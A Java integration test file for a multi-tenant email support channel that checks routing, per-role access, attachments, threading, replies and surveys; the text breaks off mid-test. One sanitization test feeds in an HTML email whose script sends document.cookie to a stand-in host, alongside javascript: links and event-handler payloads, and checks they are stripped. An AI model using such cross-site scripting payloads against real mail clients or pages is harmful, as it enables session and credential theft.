package io.switchboard.email;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.UUID;
import java.util.function.Predicate;

import jakarta.activation.DataHandler;
import jakarta.inject.Inject;
import jakarta.mail.Folder;
import jakarta.mail.Message;
import jakarta.mail.MessagingException;
import jakarta.mail.SendFailedException;
import jakarta.mail.Session;
import jakarta.mail.Store;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.util.ByteArrayDataSource;

import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.eclipse.angus.mail.smtp.SMTPAddressFailedException;
import org.eclipse.angus.mail.smtp.SMTPSendFailedException;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.specification.RequestSpecification;
import io.switchboard.email.api.smtp.SmtpServerLifecycle;
import io.switchboard.email.domain.EmailDirectory;
import io.switchboard.email.messaging.ImapPoller;
import io.switchboard.events.Channel;
import io.switchboard.events.ContactAssigned;
import io.switchboard.events.ContactCreated;
import io.switchboard.events.ContactEvent;
import io.switchboard.events.ContactMessageFailed;
import io.switchboard.events.ContactMessageReceived;
import io.switchboard.events.ContactMessageSent;
import io.switchboard.events.ContactSurveyAnswered;
import io.switchboard.events.ContactOffered;
import io.switchboard.events.EventType;
import io.switchboard.events.ReplyRequested;
import io.switchboard.events.SwitchboardEvent;
import io.switchboard.events.TenantConfigured;
import io.switchboard.events.Topics;
import io.switchboard.events.codec.DecodeResult;
import io.switchboard.events.codec.EventCodec;
import io.switchboard.service.messaging.OutgoingEvents;
import io.switchboard.testing.kafka.KafkaBrokerResource;
import io.switchboard.testing.kafka.KafkaTestClient;
import io.switchboard.testing.endpoints.AuthorizationMatrix;
import io.switchboard.testing.endpoints.AuthorizationMatrix.Caller;
import io.switchboard.testing.endpoints.ServedEndpoints;
import io.switchboard.testing.keycloak.KeycloakResource;
import io.switchboard.testing.keycloak.KeycloakServer;
import io.switchboard.testing.postgres.PostgresDatabaseResource;

/**
 * The email channel against real parts: a Kafka broker, PostgreSQL, Keycloak tokens, GreenMail as
 * the relay and the external IMAP mailbox, and Jakarta Mail as the sending mail server. Every test
 * uses its own sender and Message-IDs, so tests share the service without seeing each other.
 */
@QuarkusTest
@WithTestResource(KafkaBrokerResource.class)
@WithTestResource(value = PostgresDatabaseResource.class, initArgs = @ResourceArg(name = "prefix", value = "email"))
@WithTestResource(KeycloakResource.class)
@WithTestResource(GreenMailResource.class)
class EmailChannelServiceTest {

    private static final Duration WAIT = Duration.ofSeconds(30);
    private static final String SUPPORT = "support@acme-bank.example";
    private static final URI SOURCE = URI.create("/tests/email-channel");

    @Inject
    SmtpServerLifecycle smtp;
    @Inject
    EmailDirectory directory;
    @Inject
    ImapPoller poller;

    private KafkaTestClient kafka;
    private final String run = UUID.randomUUID().toString().substring(0, 8);

    @io.quarkus.test.common.http.TestHTTPResource("/")
    URI base;

    @BeforeEach
    void configureTenants() {
        kafka = new KafkaTestClient(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
        publish(new TenantConfigured(UUID.nameUUIDFromBytes("acme".getBytes()), "acme-bank", Instant.parse("2026-01-01T00:00:00Z"),
                "Acme Bank", "Europe/London", "GB", null, "general", List.of(
                        new TenantConfigured.EntryPoint(Channel.EMAIL, SUPPORT, "billing"),
                        new TenantConfigured.EntryPoint(Channel.EMAIL, "sales@acme-bank.example", "general"),
                        new TenantConfigured.EntryPoint(Channel.EMAIL, GreenMailResource.MAILBOX_ADDRESS, "claims"))));
        publish(new TenantConfigured(UUID.nameUUIDFromBytes("globex".getBytes()), "globex-travel",
                Instant.parse("2026-01-01T00:00:00Z"), "Globex Travel", "Europe/Madrid", "ES", null, "bookings",
                List.of(new TenantConfigured.EntryPoint(Channel.EMAIL, "help@globex.example", "bookings"))));
        await().atMost(WAIT).until(() -> directory.lookup("help@globex.example").isPresent());
    }

    @AfterEach
    void close() {
        kafka.close();
    }

    @Test
    void aPlainMessageBecomesAContactOnceStoredAndOnKafka() throws Exception {
        String sender = sender("jane");
        String messageId = messageId("plain");
        send(sender, List.of(SUPPORT), """
                From: "Jane Doe" <%s>
                To: %s
                Subject: I was charged twice
                Message-ID: %s
                Content-Type: text/plain; charset=utf-8

                Hello, my card was charged twice on Monday.
                """.formatted(sender, SUPPORT, messageId));

        List<ContactEvent> events = eventsFor(messageId, 2);
        ContactCreated created = (ContactCreated) events.get(0);
        ContactMessageReceived received = (ContactMessageReceived) events.get(1);
        assertThat(created.tenantId()).isEqualTo("acme-bank");
        assertThat(created.channel()).isEqualTo(Channel.EMAIL);
        assertThat(created.entryPoint()).isEqualTo(SUPPORT);
        assertThat(created.from().value()).isEqualTo(sender.toLowerCase());
        assertThat(created.title()).isEqualTo("I was charged twice");
        assertThat(created.customerHints()).containsEntry("name", "Jane Doe");
        assertThat(received.contactId()).isEqualTo(created.contactId());
        assertThat(received.text()).isEqualTo("Hello, my card was charged twice on Monday.");

        String emailId = received.messageId();
        assertThat(rawSize(emailId)).as("the raw message is stored").isGreaterThan(100);
        assignTo(created.contactId(), "alice");
        as("alice").get("/api/emails/{id}", emailId).then().statusCode(200)
                .body("text", equalTo("Hello, my card was charged twice on Monday."))
                .body("from", equalTo(sender.toLowerCase()))
                .body("contactId", equalTo(created.contactId()));
        as("alice").get("/api/contacts/{id}/emails", created.contactId()).then().statusCode(200).body("$", hasSize(1));
    }

    @Test
    void everyEndpointChecksTheTokenTheRoleTheTenantAndWhoWasOfferedTheContact() throws Exception {
        String messageId = messageId("auth");
        send(sender("auth"), List.of(SUPPORT), simple(sender("auth"), SUPPORT, messageId, "Access", "who can read me"));
        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
        String attachmentlessContact = received.contactId();

        given().get("/api/emails/{id}", received.messageId()).then().statusCode(401);
        given().auth().oauth2("not-a-token").get("/api/emails/{id}", received.messageId()).then().statusCode(401);
        String roleless = "norole-" + run;
        KeycloakServer.shared().createUser(roleless, List.of(), List.of("acme-bank"));
        given().auth().oauth2(KeycloakServer.shared().accessToken(roleless)).get("/api/emails/{id}", received.messageId())
                .then().statusCode(403);
        // dave serves globex-travel only: acme-bank's mail does not exist for him.
        as("dave").get("/api/emails/{id}", received.messageId()).then().statusCode(404);
        as("dave").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(404);
        // sam supervises acme-bank, gina globex-travel.
        as("sam").get("/api/emails/{id}", received.messageId()).then().statusCode(200);
        as("sam").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(200);
        as("gina").get("/api/emails/{id}", received.messageId()).then().statusCode(404);
        as("gina").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(404);
        // Agents of acme-bank read only what routing offered or assigned to them: not yet, so 404 (not 403).
        as("bob").get("/api/emails/{id}", received.messageId()).then().statusCode(404).contentType("application/problem+json");
        as("bob").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(404);
        as("erin").get("/api/emails/{id}", received.messageId()).then().statusCode(404);
        // Offered to erin (who let it time out), assigned to alice: both read it from then on; bob still does not.
        publish(new ContactOffered(UUID.randomUUID(), "acme-bank", Instant.now(), attachmentlessContact, Channel.EMAIL, "billing",
                "erin", "o-erin", Instant.now().plusSeconds(30)));
        assignTo(attachmentlessContact, "alice");
        as("alice").get("/api/emails/{id}", received.messageId()).then().statusCode(200);
        as("erin").get("/api/emails/{id}", received.messageId()).then().statusCode(200);
        as("erin").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(200);
        as("bob").get("/api/emails/{id}", received.messageId()).then().statusCode(404);
        as("bob").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(404);
        // An offer naming another tenant opens nothing to that tenant's agent: the tenant is in the query.
        publish(new ContactOffered(UUID.randomUUID(), "globex-travel", Instant.now(), attachmentlessContact, Channel.EMAIL,
                "bookings", "dave", "o-dave", Instant.now().plusSeconds(30)));
        assignTo(attachmentlessContact, "carol");
        as("dave").get("/api/contacts/{id}/emails", attachmentlessContact).then().statusCode(404);
        as("alice").get("/api/emails/{id}", "not-a-uuid").then().statusCode(400)
                .contentType("application/problem+json").body("detail", containsString("not a valid email id"));
    }

    /**
     * The authorization matrix: every endpoint the channel serves (read from its compiled classes, so a new one
     * without a row fails) × anonymous, the agent routing assigned the mail to, another agent of its tenant, its
     * supervisor, an admin, and another tenant's agent and supervisor, on an acme-bank mail with a file.
     */
    @Test
    void everyEndpointHasARowInTheAuthorizationMatrixAndEveryCallerGetsItsCell() throws Exception {
        String sender = sender("matrix");
        String messageId = messageId("matrix");
        ContactMessageReceived received = sendWithPdf(sender, messageId, "Matrix", "Who may read me?", "matrix.pdf",
                "%PDF-1.4 matrix".getBytes(StandardCharsets.US_ASCII));
        assignTo(received.contactId(), "alice");
        String attachmentId = received.attachments().get(0).id();

        int ok = 200;
        AuthorizationMatrix matrix = new AuthorizationMatrix(base, path -> path.replace("{contactId}", received.contactId())
                .replace("{id}", path.contains("/attachments/") ? attachmentId : received.messageId()),
                Caller.anonymous(), Caller.user("agent", "alice"), Caller.user("agent", "bob"), Caller.user("supervisor", "sam"),
                Caller.user("admin", "ada"), Caller.user("other tenant's agent", "dave"), Caller.user("other tenant's supervisor", "gina"))
                .row("GET", "/api/contacts/{contactId}/emails", 401, ok, 404, ok, ok, 404, 404)
                .row("GET", "/api/emails/{id}", 401, ok, 404, ok, ok, 404, 404)
                .row("GET", "/api/attachments/{id}", 401, ok, 404, ok, ok, 404, 404)
                .publicByDesign("GET /api/survey/{token}", "the satisfaction survey's link mailed to the customer: the unguessable"
                        + " token is the key (theReplysSurveyLinkTakesOneRatingOfOneToFiveAndPublishesIt)")
                .publicByDesign("POST /api/survey/{token}", "the survey's answer, by the same token");
        assertThat(ServedEndpoints.ofThisModule()).as("endpoints of the compiled classes, each needs a row")
                .isEqualTo(matrix.endpoints());
        assertThat(matrix.mismatches()).isEmpty();
    }

    @Test
    void aMultipartMessageKeepsItsTextHtmlAndFiles() throws Exception {
        String sender = sender("files");
        String messageId = messageId("multipart");
        byte[] pdf = "%PDF-1.4 statement for October".getBytes(StandardCharsets.US_ASCII);
        byte[] png = new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 1, 2, 3};

        MimeMultipart alternative = new MimeMultipart("alternative");
        alternative.addBodyPart(textPart("Please see the statement.", "plain"));
        alternative.addBodyPart(textPart("<p>Please see the <b>statement</b>.<img src=\"cid:logo@files\"></p>", "html"));
        MimeBodyPart alternativePart = new MimeBodyPart();
        alternativePart.setContent(alternative);
        MimeBodyPart logo = new MimeBodyPart();
        logo.setDataHandler(new DataHandler(new ByteArrayDataSource(png, "image/png")));
        logo.setContentID("<logo@files>");
        logo.setDisposition("inline");
        MimeBodyPart statement = new MimeBodyPart();
        statement.setDataHandler(new DataHandler(new ByteArrayDataSource(pdf, "application/pdf")));
        statement.setFileName("Kontoauszug Oktober.pdf");
        MimeMultipart mixed = new MimeMultipart("mixed");
        mixed.addBodyPart(alternativePart);
        mixed.addBodyPart(logo);
        mixed.addBodyPart(statement);
        MimeMessage message = message(sender, SUPPORT, messageId, "Statement attached");
        message.setContent(mixed);
        message.saveChanges();
        message.setHeader("Message-ID", messageId);
        send(sender, List.of(SUPPORT), message);

        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
        assertThat(received.text()).isEqualTo("Please see the statement.");
        assertThat(received.metadata()).containsEntry("html", "true");
        assertThat(received.attachments()).hasSize(2);
        var pdfRef = received.attachments().stream().filter(a -> a.contentType().equals("application/pdf")).findFirst().orElseThrow();
        assertThat(pdfRef.filename()).isEqualTo("Kontoauszug Oktober.pdf");
        assertThat(pdfRef.sizeBytes()).isEqualTo(pdf.length);
        assertThat(pdfRef.uri().getPath()).isEqualTo("/api/attachments/" + pdfRef.id());

        assignTo(received.contactId(), "alice");
        byte[] downloaded = as("alice").get("/api/attachments/{id}", pdfRef.id()).then().statusCode(200)
                .header("Content-Type", "application/pdf")
                .header("Content-Disposition", containsString("attachment"))
                .header("X-Content-Type-Options", "nosniff")
                .extract().asByteArray();
        assertThat(downloaded).isEqualTo(pdf);
        as("dave").get("/api/attachments/{id}", pdfRef.id()).then().statusCode(404);
        as("bob").get("/api/attachments/{id}", pdfRef.id()).then().statusCode(404);
        as("sam").get("/api/attachments/{id}", pdfRef.id()).then().statusCode(200);
        as("alice").get("/api/emails/{id}", received.messageId()).then().statusCode(200)
                .body("html", containsString("<b>statement</b>"))
                .body("attachments.find { it.inline }.contentId", equalTo("logo@files"));
    }

    @Test
    void filesOverTheLimitAreNamedInTheEventButNotStored() throws Exception {
        String sender = sender("bigfile");
        String messageId = messageId("bigfile");
        long limit = ConfigProvider.getConfig().getValue("switchboard.email.attachments.max-bytes", Long.class);
        MimeBodyPart text = textPart("Two files.", "plain");
        MimeBodyPart small = new MimeBodyPart();
        small.setDataHandler(new DataHandler(new ByteArrayDataSource(new byte[1_000], "application/octet-stream")));
        small.setFileName("small.bin");
        MimeBodyPart big = new MimeBodyPart();
        big.setDataHandler(new DataHandler(new ByteArrayDataSource(new byte[(int) limit + 1], "application/octet-stream")));
        big.setFileName("big.bin");
        MimeMultipart mixed = new MimeMultipart("mixed");
        mixed.addBodyPart(text);
        mixed.addBodyPart(small);
        mixed.addBodyPart(big);
        MimeMessage message = message(sender, SUPPORT, messageId, "Files");
        message.setContent(mixed);
        message.saveChanges();
        message.setHeader("Message-ID", messageId);
        send(sender, List.of(SUPPORT), message);

        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
        assertThat(received.attachments()).singleElement().satisfies(a -> assertThat(a.filename()).isEqualTo("small.bin"));
        assertThat(received.metadata().get("attachmentsOmitted")).isEqualTo("big.bin (" + (limit + 1) + " bytes)");
    }

    @Test
    void headersAndBodiesInOtherCharsetsArriveAsUnicode() throws Exception {
        String sender = sender("jose");
        String messageId = messageId("latin1");
        String raw = """
                From: =?ISO-8859-1?Q?Jos=E9_Mu=F1oz?= <%s>
                To: help@globex.example
                Subject: =?ISO-8859-1?Q?Reserva_cancelada_=BFreembolso=3F?=
                Message-ID: %s
                MIME-Version: 1.0
                Content-Type: text/plain; charset=ISO-8859-1
                Content-Transfer-Encoding: quoted-printable

                Cancel=E9 mi reserva, =BFcu=E1ndo llega el reembolso?
                """.formatted(sender, messageId);
        send(sender, List.of("help@globex.example"), raw);

        ContactCreated created = (ContactCreated) eventsFor(messageId, 2).get(0);
        assertThat(created.tenantId()).isEqualTo("globex-travel");
        assertThat(created.title()).isEqualTo("Reserva cancelada ¿reembolso?");
        assertThat(created.customerHints()).containsEntry("name", "José Muñoz");
        assertThat(created.text()).isEqualTo("Cancelé mi reserva, ¿cuándo llega el reembolso?");
    }

    @Test
    void htmlOnlyMailIsSanitizedBeforeAnyAgentSeesIt() throws Exception {
        String sender = sender("html");
        String messageId = messageId("html");
        send(sender, List.of(SUPPORT), """
                From: %s
                To: %s
                Subject: Look at this
                Message-ID: %s
                Content-Type: text/html; charset=utf-8

                <html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>
                <body><p onmouseover="steal()">Please <a href="javascript:steal()">check</a> my account</p>
                <img src="https://tracker.example/p.gif" onerror="steal()"><iframe src="https://evil.example"></iframe></body></html>
                """.formatted(sender, SUPPORT, messageId));

        ContactMessageReceived received = (ContactMessageReceived) eventsFor(messageId, 2).get(1);
        assertThat(received.text()).isEqualTo("Please check my account").doesNotContain("evil", "cookie");
        assignTo(received.contactId(), "alice");
        String html = as("alice").get("/api/emails/{id}", received.messageId()).then().statusCode(200)
                .extract().path("html");
        assertThat(html).contains("Please").doesNotContain("<script", "document.cookie", "onmouseover", "onerror",
                "javascript:", "<iframe");
    }

    @Test
    void repliesContinueTheirContactByHeadersOrByTheSubjectTokenOfTheSameCustomer() throws Exception {
        String sender = sender("thread");
        String first = messageId("thread-1");
        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, first, "Card blocked", "My card is blocked."));
        ContactCreated created = (ContactCreated) eventsFor(first, 2).get(0);
        String token = created.metadata().get("token");
        assertThat(token).matches("\\[#SB-\\d+]");

        String byHeader = messageId("thread-2");
        send(sender, List.of(SUPPORT), reply(sender, byHeader, "Re: Card blocked", first, first, "Any news?"));
        List<ContactEvent> second = eventsFor(byHeader, 1);
        assertThat(second.get(0)).isInstanceOf(ContactMessageReceived.class);
        assertThat(second.get(0).contactId()).isEqualTo(created.contactId());

        String byToken = messageId("thread-3");
        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, byToken, "Re: Card blocked " + token, "Still blocked."));
        assertThat(eventsFor(byToken, 1)).singleElement().extracting(ContactEvent::contactId).isEqualTo(created.contactId());

        // Someone else quoting the token starts their own contact: a token alone never opens another customer's thread.
        String stranger = sender("stranger");
        String strangerId = messageId("thread-4");
        send(stranger, List.of(SUPPORT), simple(stranger, SUPPORT, strangerId, "Re: Card blocked " + token, "Me too"));
        List<ContactEvent> strangers = eventsFor(strangerId, 2);
        assertThat(strangers.get(0)).isInstanceOf(ContactCreated.class);
        assertThat(strangers.get(0).contactId()).isNotEqualTo(created.contactId());

        assignTo(created.contactId(), "alice");
        as("alice").get("/api/contacts/{id}/emails", created.contactId()).then().statusCode(200).body("$", hasSize(3));
    }

    @Test
    void anAnswerAfterTheContactEndedOpensANewContactThatPointsBack() throws Exception {
        String sender = sender("reopen");
        String first = messageId("reopen-1");
        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, first, "Address change", "Please update my address."));
        ContactCreated created = (ContactCreated) eventsFor(first, 2).get(0);

        publish(new io.switchboard.events.ContactEnded(UUID.randomUUID(), "acme-bank", Instant.now(), created.contactId(),
                Channel.EMAIL, io.switchboard.events.ContactEnded.Reason.AGENT_ENDED, "resolved", null, null, null, null));
        await().atMost(WAIT).until(() -> queryOne("SELECT count(*) FROM email.email_thread WHERE contact_id = ? AND ended_at IS NOT NULL",
                created.contactId(), ResultSet::getLong) == 1L);

        String answer = messageId("reopen-2");
        send(sender, List.of(SUPPORT), reply(sender, answer, "Re: Address change", first, "", "My phone number changed too."));
        List<ContactEvent> reopened = eventsFor(answer, 2);
        ContactCreated again = (ContactCreated) reopened.get(0);
        assertThat(again.contactId()).isNotEqualTo(created.contactId());
        assertThat(again.metadata()).containsEntry("previousContactId", created.contactId());
        assertThat(again.metadata().get("token")).isNotEqualTo(created.metadata().get("token"));

        // The customer's next answer, to the new conversation, stays in it.
        String third = messageId("reopen-3");
        send(sender, List.of(SUPPORT), reply(sender, third, "Re: Address change", answer, first + " " + answer, "And my email."));
        assertThat(eventsFor(third, 1)).singleElement().extracting(ContactEvent::contactId).isEqualTo(again.contactId());
    }

    @Test
    void theSameMessageDeliveredTwiceIsOneContact() throws Exception {
        String sender = sender("twice");
        String messageId = messageId("twice");
        String raw = simple(sender, SUPPORT, messageId, "Twice", "Sent twice by a retrying server");
        send(sender, List.of(SUPPORT), raw);
        send(sender, List.of(SUPPORT), raw);
        String sentinel = messageId("twice-sentinel");
        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, sentinel, "After", "after the duplicate"));
        eventsFor(sentinel, 2);
        assertThat(allEvents(e -> messageId.equals(header(e)))).hasSize(2);
    }

    @Test
    void agentRepliesAreMailedThreadedFromTheTenantAndAnsweredOnKafka() throws Exception {
        String customer = sender("reply");
        String first = messageId("reply-1");
        send(customer, List.of(SUPPORT), simple(customer, SUPPORT, first, "Refund please", "Where is my refund?"));
        ContactCreated created = (ContactCreated) eventsFor(first, 2).get(0);

        String requestId = "reply-" + run;
        ReplyRequested reply = new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), created.contactId(), requestId,
                Channel.EMAIL, "alice", "We refunded the second charge today.", List.of(), Map.of());
        publish(reply);

        MimeMessage mailed = awaitRelayed(customer, 1).get(0);
        assertThat(mailed.getSubject()).isEqualTo("Re: Refund please " + created.metadata().get("token"));
        assertThat(mailed.getHeader("In-Reply-To", null)).isEqualTo(first);
        assertThat(mailed.getHeader("References", " ")).contains(first);
        assertThat(((InternetAddress) mailed.getFrom()[0]).getAddress()).isEqualTo(SUPPORT);
        assertThat(((InternetAddress) mailed.getFrom()[0]).getPersonal()).isEqualTo("Acme Bank");
        assertThat(mailed.getContent().toString().replace("\r\n", "\n"))
                .startsWith("We refunded the second charge today.\n\n--\nHow did we do? Rate this conversation: ");

        ContactMessageSent sent = (ContactMessageSent) awaitOutcome(requestId, 1).get(0);
        assertThat(sent.contactId()).isEqualTo(created.contactId());
        assertThat(sent.agentId()).isEqualTo("alice");
        String ourMessageId = sent.metadata().get("messageIdHeader");
        assertThat(mailed.getMessageID()).isEqualTo(ourMessageId);

        // A redelivered request is answered again, with the same event, and not mailed a second time.
        publish(reply);
        List<ContactEvent> outcomes = awaitOutcome(requestId, 2);
        assertThat(outcomes.get(1).eventId()).isEqualTo(outcomes.get(0).eventId());
        assertThat(relayedTo(customer)).hasSize(1);

        // The customer answers our reply: the same contact goes on.
        String answer = messageId("reply-2");
        send(customer, List.of(SUPPORT), reply(customer, answer, mailed.getSubject(), ourMessageId, "", "Thank you!"));
        assertThat(eventsFor(answer, 1)).singleElement().extracting(ContactEvent::contactId).isEqualTo(created.contactId());
        assignTo(created.contactId(), "alice");
        as("alice").get("/api/contacts/{id}/emails", created.contactId()).then().statusCode(200)
                .body("direction", org.hamcrest.Matchers.contains("INBOUND", "OUTBOUND", "INBOUND"));
    }

    @Test
    void aReplyCarriesTheFilesItNamesAndOnlyFilesOfItsOwnTenant() throws Exception {
        String customer = sender("reply-file");
        String first = messageId("reply-file-1");
        byte[] pdf = "%PDF-1.4 corrected statement for March".getBytes(StandardCharsets.US_ASCII);
        ContactMessageReceived received = sendWithPdf(customer, first, "Wrong total", "The statement you sent has the wrong total.",
                "Kontoauszug März.pdf", pdf);
        var file = received.attachments().get(0);
        assertThat(file.filename()).isEqualTo("Kontoauszug März.pdf");

        String requestId = "reply-file-" + run;
        publish(new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), received.contactId(), requestId, Channel.EMAIL,
                "alice", "Here it is again, corrected.", List.of(file), Map.of()));

        MimeMessage mailed = awaitRelayed(customer, 1).get(0);
        MimeMultipart parts = (MimeMultipart) mailed.getContent();
        assertThat(parts.getCount()).isEqualTo(2);
        assertThat(parts.getBodyPart(0).getContent().toString()).startsWith("Here it is again, corrected.");
        var attached = parts.getBodyPart(1);
        assertThat(attached.getFileName()).isEqualTo("Kontoauszug März.pdf");
        assertThat(attached.getContentType()).startsWith("application/pdf");
        assertThat(attached.getDisposition()).isEqualToIgnoringCase(jakarta.mail.Part.ATTACHMENT);
        assertThat(attached.getInputStream().readAllBytes()).isEqualTo(pdf);
        ContactMessageSent sent = (ContactMessageSent) awaitOutcome(requestId, 1).get(0);
        assertThat(sent.attachments()).containsExactly(file);

        // Another tenant's reply naming this file is refused, and nothing is mailed.
        String globexCustomer = sender("reply-file-globex");
        String globexFirst = messageId("reply-file-globex-1");
        send(globexCustomer, List.of("help@globex.example"), simple(globexCustomer, "help@globex.example", globexFirst, "Booking",
                "Please resend my booking"));
        ContactCreated globexContact = (ContactCreated) eventsFor(globexFirst, 2).get(0);
        String stolen = "reply-file-stolen-" + run;
        publish(new ReplyRequested(UUID.randomUUID(), "globex-travel", Instant.now(), globexContact.contactId(), stolen,
                Channel.EMAIL, "carol", "See attached.", List.of(file), Map.of()));
        ContactMessageFailed failed = (ContactMessageFailed) awaitOutcome(stolen, 1).get(0);
        assertThat(failed.permanent()).isTrue();
        assertThat(failed.reason()).contains("is not held by the email channel");
        assertThat(relayedTo(globexCustomer)).isEmpty();
    }

    @Test
    void theReplysSurveyLinkTakesOneRatingOfOneToFiveAndPublishesIt() throws Exception {
        String customer = sender("survey");
        String first = messageId("survey-1");
        send(customer, List.of(SUPPORT), simple(customer, SUPPORT, first, "Card", "My card was swallowed by the ATM"));
        ContactCreated created = (ContactCreated) eventsFor(first, 2).get(0);
        publish(new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), created.contactId(), "survey-reply-" + run,
                Channel.EMAIL, "alice", "A new card is on its way.", List.of(), Map.of()));
        String mailed = awaitRelayed(customer, 1).get(0).getContent().toString();
        java.util.regex.Matcher link = java.util.regex.Pattern.compile("/api/survey/([A-Za-z0-9_-]+)").matcher(mailed);
        assertThat(link.find()).as(mailed).isTrue();
        String path = "/api/survey/" + link.group(1);
        // The agent's thread keeps their words, without the link.
        ContactMessageSent sent = (ContactMessageSent) awaitOutcome("survey-reply-" + run, 1).get(0);
        assertThat(sent.text()).isEqualTo("A new card is on its way.");

        given().get(path).then().statusCode(200).contentType(containsString("text/html"))
                .header("Content-Security-Policy", containsString("default-src 'none'"))
                .body(containsString("name=\"score\" value=\"5\""));
        given().get("/api/survey/not-a-real-token").then().statusCode(404);
        given().formParam("score", "9").post(path).then().statusCode(400);
        given().formParam("score", "2").formParam("comment", "<b>slow</b>").post(path).then().statusCode(200)
                .body(containsString("Your rating has been recorded"));
        given().formParam("score", "5").post(path).then().statusCode(409);
        given().get(path).then().statusCode(409);

        List<ContactEvent> answers = allEvents(e -> e instanceof ContactSurveyAnswered a && a.contactId().equals(created.contactId()));
        ContactSurveyAnswered answer = (ContactSurveyAnswered) answers.get(0);
        assertThat(answer.score()).isEqualTo(2);
        assertThat(answer.comment()).isEqualTo("<b>slow</b>");
        assertThat(answer.channel()).isEqualTo(Channel.EMAIL);
        assertThat(answers).hasSize(1);
    }

    @Test
    void aMessageForAnotherChannelsContactIsMailedToTheNamedAddress() throws Exception {
        String customer = sender("transcript");
        String requestId = "transcript-" + run;
        String chatContact = UUID.randomUUID().toString();
        publish(new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), chatContact, requestId, Channel.EMAIL,
                "chat-channel", "Customer: I was charged twice\nAgent: Refunded.", List.of(),
                Map.of("to", customer, "subject", "Your chat with Acme Bank", "kind", "transcript")));

        MimeMessage mailed = awaitRelayed(customer, 1).get(0);
        assertThat(mailed.getSubject()).isEqualTo("Your chat with Acme Bank");
        assertThat(((InternetAddress) mailed.getFrom()[0]).getAddress()).isEqualTo(SUPPORT);
        assertThat(mailed.getHeader("In-Reply-To", null)).isNull();
        assertThat(mailed.getContent().toString()).contains("I was charged twice");
        ContactMessageSent sent = (ContactMessageSent) awaitOutcome(requestId, 1).get(0);
        assertThat(sent.contactId()).isEqualTo(chatContact);
        assertThat(sent.metadata()).containsEntry("kind", "transcript");

        String bad = "transcript-bad-" + run;
        publish(new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), chatContact, bad, Channel.EMAIL, "chat-channel",
                "text", List.of(), Map.of("to", "not an address", "kind", "transcript")));
        ContactMessageFailed failed = (ContactMessageFailed) awaitOutcome(bad, 1).get(0);
        assertThat(failed.permanent()).isTrue();
        assertThat(failed.metadata()).containsEntry("kind", "transcript");
    }

    @Test
    void aReplyThatCannotBeDeliveredIsAnsweredWithItsReason() {
        String unknown = "reply-unknown-" + run;
        publish(new ReplyRequested(UUID.randomUUID(), "acme-bank", Instant.now(), UUID.randomUUID().toString(), unknown,
                Channel.EMAIL, "alice", "Hello?", List.of(), Map.of()));
        ContactMessageFailed failed = (ContactMessageFailed) awaitOutcome(unknown, 1).get(0);
        assertThat(failed.reason()).contains("no email conversation");
        assertThat(failed.permanent()).isTrue();
    }

    @Test
    void autoRepliesAndBouncesAreRecordedButNeverBecomeContacts() throws Exception {
        String robot = sender("robot");
        String outOfOffice = messageId("ooo");
        send(robot, List.of(SUPPORT), """
                From: %s
                To: %s
                Subject: Out of office
                Message-ID: %s
                Auto-Submitted: auto-replied

                I am away until Monday.
                """.formatted(robot, SUPPORT, outOfOffice));
        String bounce = messageId("bounce");
        send("", List.of(SUPPORT), """
                From: Mail Delivery System <mailer-daemon@mx.example.com>
                To: %s
                Subject: Undelivered Mail Returned to Sender
                Message-ID: %s

                This is the mail system.
                """.formatted(SUPPORT, bounce));
        String sentinel = messageId("after-robots");
        send(robot, List.of(SUPPORT), simple(robot, SUPPORT, sentinel, "A person now", "Written by hand"));
        eventsFor(sentinel, 2);

        assertThat(allEvents(e -> outOfOffice.equals(header(e)) || bounce.equals(header(e)))).isEmpty();
        assertThat(status(outOfOffice)).isEqualTo("SUPPRESSED");
        assertThat(status(bounce)).isEqualTo("SUPPRESSED");
    }

    @Test
    void refusalsAreSmtpRepliesWithReasons() throws Exception {
        String sender = sender("refused");
        assertThatThrownBy(() -> send(sender, List.of("nobody@acme-bank.example"),
                simple(sender, "nobody@acme-bank.example", messageId("unknown"), "Hi", "anyone?")))
                .isInstanceOf(SendFailedException.class)
